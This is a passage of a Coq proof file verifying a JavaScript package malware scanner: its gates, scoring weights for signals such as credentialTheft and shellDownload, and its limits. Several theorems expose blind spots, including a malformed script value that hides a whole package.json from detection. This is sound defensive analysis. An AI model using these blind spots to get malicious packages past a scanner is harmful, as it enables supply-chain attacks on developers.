    assert (Hin : In (skip_file k) (map skip_file (skips_of tr))).
    { rewrite Hk. left. reflexivity. }
    destruct (skips_from_timer _ _ tr _ Hev Hin) as [_ Hs].
    apply (Permutation_in _ (Permutation_sym Hfiles)) in Hs.
    destruct Hs as [E|[]]. symmetry. exact E.
  - cbn [List.length] in Hlen. lia.
Qed.

(* ================================================================== *)
(** * More of the script *)

(* ================================================================== *)
(** ** What [inspect] gives, file by file *)

Local Open Scope Z_scope.

(** [inspect] past its gates: the manifest branch fulfils, the other
    branch rejects at its first [matchAll]. *)
Lemma inspect_past_gates (P : Platform) (cfg : Config) (path : jsstring) (st : Stats)
  (buf : Buffer) (lastIndex : nat) :
  ignoreName (path_basename path) = false ->
  fs_stat P path = Some st ->
  (size st <= MAX_BYTES)%N ->
  jsLike (toLowerCase (path_extname path)) path = true ->
  fs_readFile P path = Some buf ->
  isBinaryLikely buf = false ->
  fst (inspect P cfg path lastIndex) =
  if str_eqb (toLowerCase (path_extname path)) (u ".json")
  then Normal (inspect_conclude cfg path (fst (inspect_manifest P (Buffer_toString buf)))
                                (snd (inspect_manifest P (Buffer_toString buf))))
  else Throw RegExp.matchAll_TypeError.
Proof.
  intros Hname Hstat Hsize Hlike Hread Hbin.
  unfold inspect. rewrite Hname, Hstat.
  replace (N.ltb MAX_BYTES (size st)) with false by (symmetry; apply N.ltb_ge; exact Hsize).
  rewrite Hlike, Hread, Hbin. cbn [negb].
  destruct (str_eqb (toLowerCase (path_extname path)) (u ".json")) eqn:Hext; cbn [negb].
  - unfold jsLike in Hlike. rewrite Hext in Hlike. rewrite Hlike. reflexivity.
  - cbn [fst]. rewrite inspect_source_rejects. reflexivity.
Qed.

(** How [inspect] settles, with the gates that led there. *)
Lemma inspect_settles (P : Platform) (cfg : Config) (path : jsstring) (lastIndex : nat) :
  fst (inspect P cfg path lastIndex) = Normal None
  \/ exists st buf,
       ignoreName (path_basename path) = false
       /\ fs_stat P path = Some st /\ (size st <= MAX_BYTES)%N
       /\ jsLike (toLowerCase (path_extname path)) path = true
       /\ fs_readFile P path = Some buf /\ isBinaryLikely buf = false.
Proof.
  unfold inspect.
  destruct (ignoreName (path_basename path)) eqn:Hname; [left; reflexivity|].
  destruct (fs_stat P path) as [st|] eqn:Hstat; [|left; reflexivity].
  destruct (N.ltb MAX_BYTES (size st)) eqn:Hsize; [left; reflexivity|].
  destruct (jsLike (toLowerCase (path_extname path)) path) eqn:Hlike; [|left; reflexivity].
  destruct (fs_readFile P path) as [buf|] eqn:Hread; [|left; reflexivity].
  destruct (isBinaryLikely buf) eqn:Hbin; [left; reflexivity|].
  right. exists st, buf. apply N.ltb_ge in Hsize. repeat split; auto.
Qed.

(** Where a finding of [inspect] comes from. *)
Lemma inspect_finding_inv (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex : nat) (finding : Finding) :
  fst (inspect P cfg path lastIndex) = Normal (Some finding) ->
  path_basename path = u "package.json"
  /\ exists st buf,
       fs_stat P path = Some st /\ (size st <= MAX_BYTES)%N
       /\ fs_readFile P path = Some buf /\ isBinaryLikely buf = false
       /\ inspect_conclude cfg path (fst (inspect_manifest P (Buffer_toString buf)))
                           (snd (inspect_manifest P (Buffer_toString buf)))
          = Some finding.
Proof.
  intros Hres.
  destruct (inspect_settles P cfg path lastIndex) as [Hnull | (st & buf & Hname & Hstat & Hsize & Hlike & Hread & Hbin)].
  - rewrite Hnull in Hres. discriminate Hres.
  - rewrite (inspect_past_gates P cfg path st buf lastIndex Hname Hstat Hsize Hlike Hread Hbin)
      in Hres.
    destruct (str_eqb (toLowerCase (path_extname path)) (u ".json")) eqn:Hext;
      [|discriminate Hres].
    unfold jsLike in Hlike. rewrite Hext in Hlike. apply str_eqb_eq in Hlike.
    split; [exact Hlike|]. exists st, buf.
    apply (f_equal (fun c : completion (option Finding) =>
                      match c with Normal x => x | Throw _ => None end)) in Hres.
    cbv beta iota in Hres.
    split; [exact Hstat|]. split; [exact Hsize|]. split; [exact Hread|].
    split; [exact Hbin|exact Hres].
Qed.

(** Extra X1. [inspect] returns a finding only for a file whose base name
    is exactly package.json, whose name is not ignored, which it could
    stat and read, of at most 3 MiB and not binary; the finding is then
    the one concluded from the signals of the manifest.  No file of
    another name ever yields a finding. *)
Theorem finding_only_for_manifest (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex : nat) (finding : Finding) :
  fst (inspect P cfg path lastIndex) = Normal (Some finding) ->
  path_basename path = u "package.json"
  /\ exists st buf,
       fs_stat P path = Some st /\ (size st <= MAX_BYTES)%N
       /\ fs_readFile P path = Some buf /\ isBinaryLikely buf = false
       /\ inspect_conclude cfg path (fst (inspect_manifest P (Buffer_toString buf)))
                           (snd (inspect_manifest P (Buffer_toString buf)))
          = Some finding.
Proof.
  intros Hres.
  destruct (inspect_settles P cfg path lastIndex) as [Hnull | (st & buf & Hname & Hstat & Hsize & Hlike & Hread & Hbin)].
  - rewrite Hnull in Hres. discriminate Hres.
  - rewrite (inspect_past_gates P cfg path st buf lastIndex Hname Hstat Hsize Hlike Hread Hbin)
      in Hres.
    destruct (str_eqb (toLowerCase (path_extname path)) (u ".json")) eqn:Hext;
      [|discriminate Hres].
    unfold jsLike in Hlike. rewrite Hext in Hlike. apply str_eqb_eq in Hlike.
    split; [exact Hlike|]. exists st, buf.
    apply (f_equal (fun c : completion (option Finding) =>
                      match c with Normal x => x | Throw _ => None end)) in Hres.
    cbv beta iota in Hres.
    split; [exact Hstat|]. split; [exact Hsize|]. split; [exact Hread|].
    split; [exact Hbin|exact Hres].
Qed.

Lemma finding_only_for_manifest_witness :
  exists finding,
    fst (inspect (sample_platform sample_tree) default_config (u "pkg/package.json") 0)
    = Normal (Some finding)
    /\ path_basename (u "pkg/package.json") = u "package.json".
Proof.
  eexists. split; [vm_compute; reflexivity|].
  exact (proj1 (finding_only_for_manifest (sample_platform sample_tree) default_config
                  (u "pkg/package.json") 0 _ ltac:(vm_compute; reflexivity))).
Defined.

(** Extra X2. [inspect] rejects exactly when the file passes every gate
    and its lower-cased extension is one of the accepted ones other than
    .json; for every other file (ignored name, failed stat or read,
    more than 3 MiB, other extension, binary content, package.json) the
    promise fulfils.  The rejection is always the TypeError of
    [matchAll]. *)
Theorem inspect_rejects_iff (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex : nat) (err : Error) :
  fst (inspect P cfg path lastIndex) = Throw err
  <-> err = RegExp.matchAll_TypeError
      /\ ignoreName (path_basename path) = false
      /\ includes ALLOWED_EXT (toLowerCase (path_extname path)) = true
      /\ toLowerCase (path_extname path) <> u ".json"
      /\ exists st buf,
           fs_stat P path = Some st /\ (size st <= MAX_BYTES)%N
           /\ fs_readFile P path = Some buf /\ isBinaryLikely buf = false.
Proof.
  split.
  - intros Hres.
    destruct (inspect_settles P cfg path lastIndex) as [Hnull | (st & buf & Hname & Hstat & Hsize & Hlike & Hread & Hbin)].
    + rewrite Hnull in Hres. discriminate Hres.
    + rewrite (inspect_past_gates P cfg path st buf lastIndex Hname Hstat Hsize Hlike Hread Hbin)
        in Hres.
      destruct (str_eqb (toLowerCase (path_extname path)) (u ".json")) eqn:Hext;
        [discriminate Hres|].
      unfold jsLike in Hlike. rewrite Hext in Hlike.
      split; [inversion Hres; reflexivity|].
      split; [exact Hname|]. split; [exact Hlike|].
      split; [intros E; apply str_eqb_eq in E; congruence|].
      exists st, buf. repeat split; auto.
  - intros (-> & Hname & Hext & Hjson & st & buf & Hstat & Hsize & Hread & Hbin).
    assert (Hne : str_eqb (toLowerCase (path_extname path)) (u ".json") = false).
    { destruct (str_eqb (toLowerCase (path_extname path)) (u ".json")) eqn:E; [|reflexivity].
      apply str_eqb_eq in E. contradiction. }
    rewrite (inspect_past_gates P cfg path st buf lastIndex Hname Hstat Hsize); auto.
    + rewrite Hne. reflexivity.
    + unfold jsLike. rewrite Hne. exact Hext.
Qed.

(* ================================================================== *)
(** ** The findings that [inspect] concludes *)

(** The finding that the end of [inspect] builds, and when it is
    withheld. *)
Lemma conclude_result (cfg : Config) (path : jsstring) (parts : Parts) (evidence : Details) :
  inspect_conclude cfg path parts evidence =
  if Level_eqb (classify (scoreFinding (set_multipleSignals parts (count_signals parts)))) low
     && negb (INCLUDE_LOW cfg)
     && number_lt (number_of_Z (scoreFinding (set_multipleSignals parts (count_signals parts))))
                  (MIN_SCORE cfg)
  then None
  else Some {| file := path;
               level := classify (scoreFinding (set_multipleSignals parts (count_signals parts)));
               score := scoreFinding (set_multipleSignals parts (count_signals parts));
               signals := truthy_signals (set_multipleSignals parts (count_signals parts));
               details := evidence |}.
Proof.
  cbv beta delta [inspect_conclude] zeta.
  destruct (Level_eqb _ low && negb (INCLUDE_LOW cfg)); cbn [andb]; [|reflexivity].
  destruct (number_lt _ _); reflexivity.
Qed.

Lemma signal_sum_app (l l' : list (string * signal_value)) :
  signal_sum (l ++ l') = signal_sum l + signal_sum l'.
Proof.
  unfold signal_sum. induction l as [|e l IH]; cbn [app fold_right]; [reflexivity|].
  rewrite IH. lia.
Qed.

Lemma signal_sum_flag (name : string) (b : bool) :
  signal_sum (if b then [(name, VTrue)] else []) = points b (signal_points (name, VTrue)).
Proof. destruct b; unfold signal_sum, points; cbn [fold_right]; lia. Qed.

Lemma signal_sum_signals (p : Parts) :
  Z.min (signal_sum (truthy_signals p)) 100 = scoreFinding p.
Proof.
  rewrite scoreFinding_sum. f_equal.
  unfold truthy_signals. rewrite !signal_sum_app, !signal_sum_flag.
  assert (Hm : signal_sum match multipleSignals p with
                          | O => []
                          | S n => [("multipleSignals", VCount (S n))]
                          end = points (Nat.leb 3 (multipleSignals p)) 15).
  { destruct (multipleSignals p) as [|[|[|n]]]; reflexivity. }
  rewrite Hm.
  change (signal_points ("invisInIdentifier", VTrue)) with 40.
  change (signal_points ("invisAnywhere", VTrue)) with 10.
  change (signal_points ("suspiciousWords", VTrue)) with 25.
  change (signal_points ("netFuncs", VTrue)) with 15.
  change (signal_points ("dangerous", VTrue)) with 25.
  change (signal_points ("shellDownload", VTrue)) with 35.
  change (signal_points ("hardcodedIp", VTrue)) with 20.
  change (signal_points ("b64UrlDecoded", VTrue)) with 45.
  change (signal_points ("pkgPostInstall", VTrue)) with 40.
  change (signal_points ("pkgExecNet", VTrue)) with 30.
  change (signal_points ("fileIsExecutableScript", VTrue)) with 10.
  change (signal_points ("knownC2Infrastructure", VTrue)) with 60.
  change (signal_points ("solanaBlockchainC2", VTrue)) with 50.
  change (signal_points ("googleCalendarC2", VTrue)) with 50.
  change (signal_points ("credentialTheft", VTrue)) with 35.
  change (signal_points ("vsCodeExtensionAPI", VTrue)) with 20.
  change (signal_points ("cryptoWalletTargeting", VTrue)) with 30.
  lia.
Qed.

Lemma truthy_signals_truthy (p : Parts) :
  Forall (fun entry => snd entry <> VCount 0) (truthy_signals p).
Proof.
  unfold truthy_signals.
  repeat (apply Forall_app; split;
          [match goal with |- Forall _ (if ?b then _ else _) =>
             destruct b; [constructor; [cbn; discriminate|constructor]|constructor] end|]).
  destruct (multipleSignals p); [constructor|].
  constructor; [cbn; discriminate|constructor].
Qed.

(** Extra X3. Whatever the signals and the configuration, a finding
    that the end of [inspect] returns is consistent: it carries the path
    and the evidence it was given, its class is the class of its score,
    the score lies between 0 and 100 and is the saturated sum of the
    points of the signals it reports, and it reports no signal whose
    value is falsy. *)
Theorem finding_is_consistent (cfg : Config) (path : jsstring) (parts : Parts)
  (evidence : Details) (finding : Finding) :
  inspect_conclude cfg path parts evidence = Some finding ->
  file finding = path
  /\ details finding = evidence
  /\ level finding = classify (score finding)
  /\ 0 <= score finding <= 100
  /\ score finding = Z.min (signal_sum (signals finding)) 100
  /\ Forall (fun entry => snd entry <> VCount 0) (signals finding).
Proof.
  rewrite conclude_result.
  destruct (_ && _ && _); [discriminate|].
  intros E. inversion E. cbn [file details level score signals].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  split; [apply scoreFinding_range|].
  split; [symmetry; apply signal_sum_signals|].
  apply truthy_signals_truthy.
Qed.

Lemma finding_is_consistent_witness :
  exists finding,
    inspect_conclude default_config (u "a.js") parts_55 no_details = Some finding
    /\ score finding = Z.min (signal_sum (signals finding)) 100.
Proof.
  eexists. split; [vm_compute; reflexivity|].
  exact (proj1 (proj2 (proj2 (proj2 (proj2
           (finding_is_consistent default_config (u "a.js") parts_55 no_details _
              ltac:(vm_compute; reflexivity))))))).
Defined.

Lemma manifest_shape (P : Platform) (text : jsstring) :
  exists post exec bin vscode,
    fst (inspect_manifest P text) = manifest_parts post exec bin vscode
    /\ post && exec = false.
Proof.
  unfold inspect_manifest, manifest_try.
  destruct (JSON_parse P text) as [pj|];
    [|exists false, false, false, false; split; reflexivity].
  destruct pj; try (exists false, false, false, false; split; reflexivity);
    cbv zeta;
    (match goal with
     | |- context [filter_try (suspicious P) ?l] =>
         destruct (filter_try (suspicious P) l) as [sus|]
     end; cbn [bind];
     [|exists false, false, false, false; split; reflexivity]);
    (match goal with
     | |- context [bind ?c _] => destruct c as [execNet|]
     end; cbn [bind];
     [|exists false, false, false, false; split; reflexivity]);
    cbn [fst];
    (eexists _, _, _, _; split; [unfold manifest_parts; reflexivity|]);
    match goal with |- ?a && (negb ?a && _) = false => destruct a; reflexivity end.
Qed.

Lemma manifest_finding (cfg : Config) (path : jsstring) (post exec bin vscode : bool)
  (evidence : Details) (finding : Finding) :
  inspect_conclude cfg path (manifest_parts post exec bin vscode) evidence = Some finding ->
  score finding = points post 40 + points exec 30 + points bin 10 + points vscode 20
  /\ level finding = classify (score finding)
  /\ signals finding =
     (if post then [("pkgPostInstall", VTrue)] else [])
     ++ (if exec then [("pkgExecNet", VTrue)] else [])
     ++ (if bin then [("fileIsExecutableScript", VTrue)] else [])
     ++ (if vscode then [("vsCodeExtensionAPI", VTrue)] else [])
     ++ (if post || exec
         then [("multipleSignals", VCount (Nat.b2n post + Nat.b2n exec))] else []).
Proof.
  rewrite conclude_result.
  destruct (_ && _ && _); [discriminate|].
  intros E. inversion E. cbn [score level signals].
  destruct post, exec, bin, vscode; vm_compute; repeat split; reflexivity.
Qed.

(** What a finding of [inspect] looks like. *)
Lemma inspect_finding_shape (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex : nat) (finding : Finding) :
  fst (inspect P cfg path lastIndex) = Normal (Some finding) ->
  exists post exec bin vscode,
    post && exec = false
    /\ score finding = points post 40 + points exec 30 + points bin 10 + points vscode 20
    /\ signals finding =
       (if post then [("pkgPostInstall", VTrue)] else [])
       ++ (if exec then [("pkgExecNet", VTrue)] else [])
       ++ (if bin then [("fileIsExecutableScript", VTrue)] else [])
       ++ (if vscode then [("vsCodeExtensionAPI", VTrue)] else [])
       ++ (if post || exec then [("multipleSignals", VCount 1)] else [])
    /\ score finding <= 70
    /\ level finding <> critical.
Proof.
  intros Hres.
  destruct (inspect_finding_inv P cfg path lastIndex finding Hres)
    as (_ & st & buf & _ & _ & _ & _ & Hc).
  destruct (manifest_shape P (Buffer_toString buf)) as (post & exec & bin & vscode & Hp & Hx).
  rewrite Hp in Hc.
  destruct (manifest_finding _ _ _ _ _ _ _ _ Hc) as (Hs & Hl & Hsig).
  exists post, exec, bin, vscode.
  split; [exact Hx|]. split; [exact Hs|].
  split; [rewrite Hsig; destruct post, exec; try discriminate Hx; reflexivity|].
  rewrite Hl, Hs.
  destruct post, exec, bin, vscode; try discriminate Hx; vm_compute; split; discriminate.
Qed.

(** Extra X4. A finding that [inspect] returns reports only signals of
    the manifest: its score is the sum of 40 for pkgPostInstall, 30 for
    pkgExecNet, 10 for fileIsExecutableScript and 20 for
    vsCodeExtensionAPI, the first two never together; so the score is at
    most 70, the combination bonus is never awarded, and the class is
    never critical. *)
Theorem findings_stay_below_critical (P : Platform) (cfg : Config) (path : jsstring)
  (lastIndex : nat) (finding : Finding) :
  fst (inspect P cfg path lastIndex) = Normal (Some finding) ->
  exists post exec bin vscode,
    post && exec = false
    /\ score finding = points post 40 + points exec 30 + points bin 10 + points vscode 20
    /\ signals finding =
       (if post then [("pkgPostInstall", VTrue)] else [])
       ++ (if exec then [("pkgExecNet", VTrue)] else [])
       ++ (if bin then [("fileIsExecutableScript", VTrue)] else [])
       ++ (if vscode then [("vsCodeExtensionAPI", VTrue)] else [])
       ++ (if post || exec then [("multipleSignals", VCount 1)] else [])
    /\ score finding <= 70
    /\ level finding <> critical.
Proof.
  intros Hres.
  destruct (inspect_finding_inv P cfg path lastIndex finding Hres)
    as (_ & st & buf & _ & _ & _ & _ & Hc).
  destruct (manifest_shape P (Buffer_toString buf)) as (post & exec & bin & vscode & Hp & Hx).
  rewrite Hp in Hc.
  destruct (manifest_finding _ _ _ _ _ _ _ _ Hc) as (Hs & Hl & Hsig).
  exists post, exec, bin, vscode.
  split; [exact Hx|]. split; [exact Hs|].
  split; [rewrite Hsig; destruct post, exec; try discriminate Hx; reflexivity|].
  rewrite Hl, Hs.
  destruct post, exec, bin, vscode; try discriminate Hx; vm_compute; split; discriminate.
Qed.

Lemma findings_stay_below_critical_witness :
  exists finding,
    fst (inspect (sample_platform sample_tree) default_config (u "pkg/package.json") 0)
    = Normal (Some finding)
    /\ score finding <= 70 /\ level finding <> critical.
Proof.
  eexists. split; [vm_compute; reflexivity|].
  destruct (findings_stay_below_critical (sample_platform sample_tree) default_config
              (u "pkg/package.json") 0 _ ltac:(vm_compute; reflexivity))
    as (post & exec & bin & vscode & _ & _ & _ & Hs & Hl).
  split; [exact Hs|exact Hl].
Defined.

(* ================================================================== *)
(** ** The threshold [MIN_SCORE] *)

Lemma classify_low (points : Z) : classify points = low <-> points < 40.
Proof.
  unfold classify.
  destruct (Z.leb_spec 80 points); [split; [discriminate|lia]|].
  destruct (Z.leb_spec 60 points); [split; [discriminate|lia]|].
  destruct (Z.leb_spec 40 points); [split; [discriminate|lia]|].
  split; [lia|reflexivity].
Qed.

Lemma Level_eqb_low (l : Level) : Level_eqb l low = true <-> l = low.
Proof. destruct l; cbn; split; intros E; try reflexivity; discriminate E. Qed.

Lemma conclude_same_from_40 (cfg cfg' : Config) (a b : Z) (path : jsstring) (parts : Parts)
  (evidence : Details) :
  INCLUDE_LOW cfg = INCLUDE_LOW cfg' ->
  MIN_SCORE cfg = number_of_Z a -> MIN_SCORE cfg' = number_of_Z b ->
  40 <= a <= 4096 -> 40 <= b <= 4096 ->
  inspect_conclude cfg path parts evidence = inspect_conclude cfg' path parts evidence.
Proof.
  intros Hlow Ha Hb Hra Hrb. rewrite !conclude_result, Hlow, Ha, Hb.
  pose proof (scoreFinding_range (set_multipleSignals parts (count_signals parts))) as Hr.
  destruct (Level_eqb _ low) eqn:Hl; [|reflexivity].
  apply Level_eqb_low, classify_low in Hl.
  rewrite !number_lt_of_Z by lia.
  replace (_ <? a) with true by (symmetry; apply Z.ltb_lt; lia).
  replace (_ <? b) with true by (symmetry; apply Z.ltb_lt; lia).
  reflexivity.
Qed.

(** Extra X5. With INCLUDE_LOW off, every whole MIN_SCORE from 40 to
    4096 gives the same result for every file: the low-severity filter
    then withholds exactly the findings that score less than 40, so
    raising MIN_SCORE beyond 40 filters nothing more. *)
Theorem MIN_SCORE_from_40_is_inert (P : Platform) (cfg cfg' : Config) (a b : Z)
  (path : jsstring) (lastIndex : nat) :
  INCLUDE_LOW cfg = INCLUDE_LOW cfg' ->
  MIN_SCORE cfg = number_of_Z a -> MIN_SCORE cfg' = number_of_Z b ->
  40 <= a <= 4096 -> 40 <= b <= 4096 ->
  inspect P cfg path lastIndex = inspect P cfg' path lastIndex.
Proof.
  intros Hlow Ha Hb Hra Hrb. unfold inspect.
  destruct (ignoreName _); [reflexivity|].
  destruct (fs_stat P path) as [st|]; [|reflexivity].
  destruct (N.ltb _ _); [reflexivity|].
  destruct (negb _); [reflexivity|].
  destruct (fs_readFile P path) as [buf|]; [|reflexivity].
  destruct (isBinaryLikely buf); [reflexivity|].
  cbv zeta.
  match goal with |- (bind (fst ?x) _, _) = _ => destruct (fst x) as [pd|err] end;
    cbn [bind]; [|reflexivity].
  rewrite (conclude_same_from_40 cfg cfg' a b); auto.
Qed.

Lemma MIN_SCORE_from_40_is_inert_witness :
  inspect (sample_platform sample_tree) default_config (u "pkg/package.json") 0
  = inspect (sample_platform sample_tree)
      {| MIN_SCORE := number_of_Z 80; INCLUDE_LOW := false;
         INSPECT_TIMEOUT := number_of_Z 100 |}
      (u "pkg/package.json") 0.
Proof.
  apply (MIN_SCORE_from_40_is_inert _ _ _ 60 80); [reflexivity|reflexivity|reflexivity|lia|lia].
Defined.

Lemma number_lt_nan (x : number) : number_lt x PrimFloat.nan = false.
Proof.
  unfold number_lt. rewrite FloatAxioms.ltb_spec.
  change (Prim2SF PrimFloat.nan) with S754_nan.
  unfold SFltb, SFcompare. destruct (Prim2SF x) as [? | ? | | ? ? ?]; reflexivity.
Qed.

(** Extra X6. A MIN_SCORE that is not a number (the environment
    variable is not numeric) or that is 0 switches the low-severity
    filter off: the end of [inspect] then returns a finding for every
    record of signals, also one with no signal at all. *)
Theorem MIN_SCORE_nan_or_zero_reports_all (cfg : Config) (path : jsstring) (parts : Parts)
  (evidence : Details) :
  MIN_SCORE cfg = PrimFloat.nan \/ MIN_SCORE cfg = number_of_Z 0 ->
  exists finding,
    inspect_conclude cfg path parts evidence = Some finding
    /\ score finding = scoreFinding (set_multipleSignals parts (count_signals parts)).
Proof.
  intros Hmin. rewrite conclude_result.
  assert (Hlt : number_lt (number_of_Z (scoreFinding (set_multipleSignals parts
                                                         (count_signals parts))))
                          (MIN_SCORE cfg) = false).
  { destruct Hmin as [-> | ->]; [apply number_lt_nan|].
    pose proof (scoreFinding_range (set_multipleSignals parts (count_signals parts))) as Hr.
    rewrite number_lt_of_Z by lia. apply Z.ltb_ge. lia. }
  rewrite Hlt, andb_false_r. eexists. split; reflexivity.
Qed.

Lemma MIN_SCORE_nan_or_zero_reports_all_witness :
  exists finding,
    inspect_conclude
      {| MIN_SCORE := PrimFloat.nan; INCLUDE_LOW := false;
         INSPECT_TIMEOUT := number_of_Z 100 |}
      (u "a.js") no_parts no_details = Some finding
    /\ score finding = scoreFinding (set_multipleSignals no_parts (count_signals no_parts)).
Proof.
  apply (MIN_SCORE_nan_or_zero_reports_all
           {| MIN_SCORE := PrimFloat.nan; INCLUDE_LOW := false;
         INSPECT_TIMEOUT := number_of_Z 100 |}).
  left. reflexivity.
Defined.

(** Extra X7. A package.json whose text [JSON.parse] refuses, or that
    parses to something other than an object, does not make [inspect]
    reject and sets no signal: the outcome is the record with score 0
    and no signal, withheld when INCLUDE_LOW is off and 0 is below
    MIN_SCORE, and returned as a low finding otherwise. *)
Theorem unparsable_manifest_sets_no_signal (P : Platform) (cfg : Config) (path : jsstring)
  (st : Stats) (buf : Buffer) (lastIndex : nat) :
  path_basename path = u "package.json" ->
  fs_stat P path = Some st ->
  (size st <= MAX_BYTES)%N ->
  fs_readFile P path = Some buf ->
  isBinaryLikely buf = false ->
  (JSON_parse P (Buffer_toString buf) = None
   \/ exists v, JSON_parse P (Buffer_toString buf) = Some v /\ forall m, v <> JObject m) ->
  fst (inspect P cfg path lastIndex) =
  Normal (if negb (INCLUDE_LOW cfg) && number_lt (number_of_Z 0) (MIN_SCORE cfg)
          then None
          else Some {| file := path; level := low; score := 0; signals := [];
                       details := no_details |}).
Proof.
  intros Hbase Hstat Hsize Hread Hbin Hparse.
  rewrite (inspect_package_json P cfg path st buf lastIndex Hbase Hstat Hsize Hread Hbin).
  cbn [fst]. f_equal.
  assert (Hm : inspect_manifest P (Buffer_toString buf) = (no_parts, no_details)).
  { unfold inspect_manifest, manifest_try.
    destruct Hparse as [-> | (v & -> & Hv)]; [reflexivity|].
    destruct v; try reflexivity. exfalso. exact (Hv m eq_refl). }
  rewrite Hm. cbn [fst snd]. rewrite conclude_result. reflexivity.
Qed.

Lemma unparsable_manifest_sets_no_signal_witness :
  fst (inspect (sample_platform [broken_json]) default_config (u "pkg/package.json") 0)
  = Normal None.
Proof.
  exact (unparsable_manifest_sets_no_signal (sample_platform [broken_json]) default_config
           (u "pkg/package.json") {| size := 6 |} (ascii_bytes "{oops}") 0
           eq_refl eq_refl ltac:(vm_compute; discriminate) eq_refl eq_refl
           (or_introl eq_refl)).
Defined.

Lemma filter_try_throws {A} (f : A -> completion bool) (x : A) (l : list A) :
  In x l -> (exists err, f x = Throw err) -> exists err, filter_try f l = Throw err.
Proof.
  induction l as [|y l IH]; intros Hin Hx; [contradiction|].
  cbn [filter_try]. destruct (f y) as [b|err] eqn:Hy; [|exists err; reflexivity].
  cbn [bind]. destruct Hin as [->|Hin].
  - destruct Hx as [err Hx]. rewrite Hx in Hy. discriminate Hy.
  - destruct (IH Hin Hx) as [err Herr]. rewrite Herr. exists err. reflexivity.
Qed.

(** Extra X26. One script value that cannot be converted to a string
    hides the whole manifest.  When one of the entries of [scripts] has a
    value that is an object with an own property [toString], or an array
    holding one, under whatever key, the conversion throws inside the
    [try] before any signal is set: the manifest leaves no signal and no
    evidence, neither for the other scripts nor for [bin] or
    [engines.vscode], and [inspect] concludes from the empty record: the
    score is 0 and the outcome is withheld unless INCLUDE_LOW is on or
    MIN_SCORE is not above 0. *)
Theorem throwing_script_value_hides_manifest (P : Platform) (cfg : Config)
  (path : jsstring) (st : Stats) (buf : Buffer) (pj scripts : json)
  (k : jsstring) (v : json) (lastIndex : nat) :
  path_basename path = u "package.json" ->
  fs_stat P path = Some st ->
  (size st <= MAX_BYTES)%N ->
  fs_readFile P path = Some buf ->
  isBinaryLikely buf = false ->
  JSON_parse P (Buffer_toString buf) = Some pj ->
  get pj "scripts" = Some scripts ->
  truthy scripts = true ->
  In (k, v) (Object_entries scripts) ->
  unconvertible v = true ->
  ToString P v = Throw primitive_TypeError
  /\ inspect_manifest P (Buffer_toString buf) = (no_parts, no_details)
  /\ fst (inspect P cfg path lastIndex) =
     Normal (if negb (INCLUDE_LOW cfg) && number_lt (number_of_Z 0) (MIN_SCORE cfg)
             then None
             else Some {| file := path; level := low; score := 0; signals := [];
                          details := no_details |}).
Proof.
  intros Hbase Hstat Hsize Hread Hbin Hparse Hscripts Htruthy Hin Hv.
  pose proof (ToString_outcome P v) as Hthrow. rewrite Hv in Hthrow.
  split; [exact Hthrow|].
  assert (Hm : inspect_manifest P (Buffer_toString buf) = (no_parts, no_details)).
  { unfold inspect_manifest, manifest_try. rewrite Hparse.
    destruct pj; try discriminate Hscripts.
    rewrite Hscripts, Htruthy.
    destruct (filter_try_throws (suspicious P) (k, v) _ Hin) as [err Herr].
    - exists primitive_TypeError. unfold suspicious, netHit. cbn [snd].
      rewrite Hthrow. reflexivity.
    - rewrite Herr. reflexivity. }
  split; [exact Hm|].
  rewrite (inspect_package_json P cfg path st buf lastIndex Hbase Hstat Hsize Hread Hbin).
  cbn [fst]. f_equal. rewrite Hm. cbn [fst snd]. rewrite conclude_result. reflexivity.
Qed.

Lemma throwing_script_value_hides_manifest_witness :
  fst (inspect (sample_platform [odd_package_json]) default_config
               (sample_path odd_package_json) 0)
  = Normal None.
Proof.
  exact (proj2 (proj2
           (throwing_script_value_hides_manifest (sample_platform [odd_package_json])
              default_config (sample_path odd_package_json)
              {| size := N.of_nat (List.length (sample_content odd_package_json)) |}
              (sample_content odd_package_json) odd_manifest_json (JObject odd_scripts)
              (u "test") odd_value 0
              eq_refl eq_refl ltac:(vm_compute; discriminate) eq_refl eq_refl
              eq_refl eq_refl eq_refl (or_intror (or_introl eq_refl)) eq_refl))).
Defined.

(* ================================================================== *)
(** ** Signals that alone make a finding *)

Lemma points_nonneg (b : bool) (w : Z) : 0 <= w -> 0 <= points b w.
Proof. intros H. destruct b; unfold points; lia. Qed.

(** Extra X8. Any one of knownC2Infrastructure, solanaBlockchainC2,
    googleCalendarC2, b64UrlDecoded, invisInIdentifier and pkgPostInstall
    is enough: whatever else is set and whatever MIN_SCORE and
    INCLUDE_LOW are, the record scores 40 or more, is not of class low,
    and the end of [inspect] returns it. *)
Theorem strong_signal_is_always_reported (cfg : Config) (path : jsstring) (parts : Parts)
  (evidence : Details) :
  knownC2Infrastructure parts || solanaBlockchainC2 parts || googleCalendarC2 parts
  || b64UrlDecoded parts || invisInIdentifier parts || pkgPostInstall parts = true ->
  exists finding,
    inspect_conclude cfg path parts evidence = Some finding
    /\ 40 <= score finding /\ level finding <> low.
Proof.
  intros Hset.
  assert (Hs : 40 <= scoreFinding (set_multipleSignals parts (count_signals parts))).
  { rewrite scoreFinding_sum. cbn [set_multipleSignals invisInIdentifier invisAnywhere
      suspiciousWords netFuncs dangerous shellDownload hardcodedIp b64UrlDecoded
      pkgPostInstall pkgExecNet fileIsExecutableScript knownC2Infrastructure
      solanaBlockchainC2 googleCalendarC2 credentialTheft vsCodeExtensionAPI
      cryptoWalletTargeting multipleSignals].
    pose proof (points_nonneg (invisInIdentifier parts) 40).
    pose proof (points_nonneg (invisAnywhere parts) 10).
    pose proof (points_nonneg (suspiciousWords parts) 25).
    pose proof (points_nonneg (netFuncs parts) 15).
    pose proof (points_nonneg (dangerous parts) 25).
    pose proof (points_nonneg (shellDownload parts) 35).
    pose proof (points_nonneg (hardcodedIp parts) 20).
    pose proof (points_nonneg (b64UrlDecoded parts) 45).
    pose proof (points_nonneg (pkgPostInstall parts) 40).
    pose proof (points_nonneg (pkgExecNet parts) 30).
    pose proof (points_nonneg (fileIsExecutableScript parts) 10).
    pose proof (points_nonneg (knownC2Infrastructure parts) 60).
    pose proof (points_nonneg (solanaBlockchainC2 parts) 50).
    pose proof (points_nonneg (googleCalendarC2 parts) 50).
    pose proof (points_nonneg (credentialTheft parts) 35).
    pose proof (points_nonneg (vsCodeExtensionAPI parts) 20).
